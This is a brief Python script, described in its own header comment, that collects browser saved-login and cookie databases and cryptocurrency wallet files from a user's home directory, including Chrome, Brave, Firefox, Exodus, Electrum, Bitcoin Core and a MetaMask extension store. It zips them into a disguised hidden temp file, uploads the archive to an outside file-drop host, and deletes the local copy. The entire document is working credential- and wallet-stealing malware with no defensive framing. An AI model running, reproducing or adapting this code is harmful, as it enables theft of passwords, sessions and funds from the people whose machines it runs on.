# Zips browser login/cookie databases and crypto wallet files from the home directory and uploads the archive.
import glob
import os
import zipfile

import requests

H = os.path.expanduser("~")
TARGETS = [
    ".config/google-chrome/*/Login Data",
    ".config/google-chrome/*/Cookies",
    ".config/BraveSoftware/Brave-Browser/*/Login Data",
    ".mozilla/firefox/*/logins.json",
    ".mozilla/firefox/*/key4.db",
    ".config/Exodus/exodus.wallet/*",
    ".electrum/wallets/*",
    ".bitcoin/wallet.dat",
    ".config/google-chrome/*/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*",
]

out = "/tmp/.cache_sync.zip"
with zipfile.ZipFile(out, "w") as zf:
    for pattern in TARGETS:
        for path in glob.glob(os.path.join(H, pattern)):
            if os.path.isfile(path):
                zf.write(path, arcname=os.path.relpath(path, H))

with open(out, "rb") as fh:
    requests.post("https://upload.filedrop.example.com/u", files={"f": fh}, timeout=30)
os.remove(out)
